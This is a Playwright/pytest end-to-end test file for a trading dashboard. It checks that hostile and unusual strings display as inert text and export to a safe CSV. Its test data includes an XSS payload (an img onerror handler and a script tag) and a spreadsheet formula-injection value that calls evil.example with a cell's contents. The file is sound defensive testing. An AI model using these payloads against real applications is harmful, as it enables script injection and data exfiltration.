"""Texts that mean harm, or only too much: none runs, nothing breaks, and files are safe to open."""

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from app.engine.rows import CopyRow, OrderRow, Snapshot
from app.engine.service import Answer, AnyCommand, Result
from tests.builders import shown_rows as rows
from tests.builders.browser import Screen
from tests.builders.dashboard import Dashboard, dashboard
from tests.e2e.desk import line
from tests.e2e.judging import SIZES, faults

pytestmark = [pytest.mark.process, pytest.mark.timeout(240)]

MARKUP = "<img src=x onerror=\"window.harmed='img'\"><script>window.harmed='script'</script>"
TURNED = "\u202eDESREVER\u202c \u2066txt\u2069"
ENDLESS = "LONG" * 125
FAMILY = "👨‍👩‍👧‍👦🚀"
TAMIL = "முதன்மை கணக்கு"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'
TEXTS = {
    "markup": MARKUP,
    "turned": TURNED,
    "endless": ENDLESS,
    "family": FAMILY,
    "tamil": TAMIL,
    "formula": FORMULA,
    "spaces": "a \t\r\n b\u0000c",
}
PAGES = ("Positions", "Analytics", "Activity", "Orders")


def _state() -> Snapshot:
    """Build a day where each order, account, reason and alert carries one of the texts."""
    names = list(TEXTS.values())
    accounts = {"PR0001": rows.account("PR0001", name=TAMIL, role="primary")}
    orders: dict[str, OrderRow] = {}
    copies: dict[str, CopyRow] = {}
    for number, (key, text) in enumerate(TEXTS.items()):
        account_id = f"SE{number:04d}"
        told = {**rows.reason("BROKER_REJECTED", text), "raw": text}
        accounts[account_id] = rows.account(account_id, name=text, looking_fails=text, reason=told)
        orders[key] = rows.order(
            key,
            exchange="NSE",
            tradingsymbol=text,
            status="REJECTED",
            status_message=text,
            order_type=text[:40],
            placed_at=f"2026-11-20T04:0{number}:00+00:00",
        )
        for other in range(len(TEXTS)):
            copy = rows.copy(
                key,
                f"SE{other:04d}",
                instrument=f"NSE:{text}",
                state="REJECTED",
                reason={**told, "raw": names[other]},
                may_retry=True,
                legs=[rows.leg(tag=f"TC{key}{other}", state="REJECTED", reason=told, order_id=text[:30])],
            )
            copies[copy["copy_id"]] = copy
    return rows.snapshot(
        status=rows.status(stopped_by=MARKUP, journal_fails=ENDLESS, looking_fails=MARKUP),
        accounts=accounts,
        orders=orders,
        copies=copies,
        portfolios={
            account_id: rows.portfolio(
                account_id, fails=MARKUP, positions=[rows.position(f"NSE:{text}") for text in names]
            )
            for account_id in accounts
        },
        alerts=[rows.alert(number, text=text) for number, text in enumerate(names, 1)],
    )


@pytest.fixture(scope="module")
def board(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dashboard]:
    with dashboard(tmp_path_factory.mktemp("data"), _state()) as board:
        yield board


@pytest.fixture(params=SIZES)
def screen(request: pytest.FixtureRequest, browser: Browser, board: Dashboard) -> Iterator[Screen]:
    screen = Screen(browser, *SIZES[request.param])
    screen.page.goto(board.sign_in_link())
    expect(screen.page.get_by_test_id("mode")).to_have_text("Paper")
    yield screen
    assert screen.complaints() == []
    screen.close()


def _is_unharmed(page: Page) -> None:
    assert page.evaluate("window.harmed") is None
    assert page.locator("img, main script, [role=dialog] script").count() == 0


def test_every_page_shows_them_as_texts_and_keeps_its_shape(screen: Screen) -> None:
    page = screen.page
    for name in PAGES:
        page.get_by_role("navigation").get_by_role("link", name=name).click()
        expect(page.get_by_role("main").get_by_text("LONGLONG").first).to_be_attached()
        assert faults(page) == []
        _is_unharmed(page)


def test_opened_rows_keep_their_height(browser: Browser, board: Dashboard) -> None:
    screen = Screen(browser, 1600, 1000)
    page = screen.page
    page.goto(board.sign_in_link())
    for key in TEXTS:
        expect(line(page, key)).to_be_visible()
    line(page, "spaces").get_by_role("button", name="Copies of").click()
    heights = page.locator("[data-line]").evaluate_all("all => all.map((row) => row.offsetHeight)")
    assert len(heights) > len(TEXTS)
    assert set(heights) == {30}
    line(page, "spaces:SE0002").get_by_role("button", name="Details of the copy").click()
    expect(page.get_by_text("The broker's words:")).to_be_visible()
    assert faults(page) == []
    _is_unharmed(page)
    assert screen.complaints() == []
    screen.close()


def test_a_file_of_them_is_safe_to_open(browser: Browser, board: Dashboard, tmp_path: Path) -> None:
    screen = Screen(browser, 1600, 1000)
    page = screen.page
    page.goto(board.sign_in_link())
    expect(line(page, "formula")).to_be_visible()
    with page.expect_download() as begun:
        page.keyboard.press("e")
    saved = tmp_path / "orders.csv"
    begun.value.save_as(saved)
    assert saved.read_bytes().startswith(b"\xef\xbb\xbf")
    with saved.open(encoding="utf-8-sig", newline="") as file:
        header, *lines = csv.reader(file)
    assert len(lines) >= len(TEXTS)
    assert {len(one) for one in lines} == {len(header)}
    cells = [cell for one in lines for cell in one]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))] == []
    assert any(TAMIL in cell for cell in cells)
    assert screen.complaints() == []
    screen.close()


def test_a_refused_command_says_why_on_its_row_and_changes_no_other(
    browser: Browser, board: Dashboard
) -> None:
    screen = Screen(browser, 1600, 1000)
    page = screen.page
    page.goto(board.sign_in_link())
    expect(line(page, "tamil")).to_be_visible()
    why = f"It has moved on. {MARKUP} {ENDLESS}"

    def refuse(command: AnyCommand) -> Answer:
        results = (Result(key="tamil:SE0001", accepted=False, message=why),)
        return Answer(command_id=command.command_id, accepted=False, message="Refused.", results=results)

    board.engine.answer = refuse
    line(page, "tamil").get_by_role("button", name="Copies of").click()
    before = {key: line(page, key).inner_text() for key in (*TEXTS, "tamil:SE0002") if key != "tamil"}
    line(page, "tamil:SE0001").get_by_role("button", name="Retry").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_role("button", name="Send 1 order").click()
    expect(dialog.get_by_role("alert")).to_contain_text("It has moved on.")
    assert faults(page, is_stop_in_reach=False) == []
    dialog.get_by_role("button", name="Cancel").click()
    for row_id in ("tamil", "tamil:SE0001"):
        expect(line(page, row_id)).to_contain_text("Refused:")
        expect(line(page, row_id)).to_contain_text("It has moved on.")
    assert {key: line(page, key).inner_text() for key in before} == before
    assert line(page, "tamil").evaluate("row => row.offsetHeight") == 30
    assert faults(page) == []
    _is_unharmed(page)
    assert screen.complaints() == []
    screen.close()
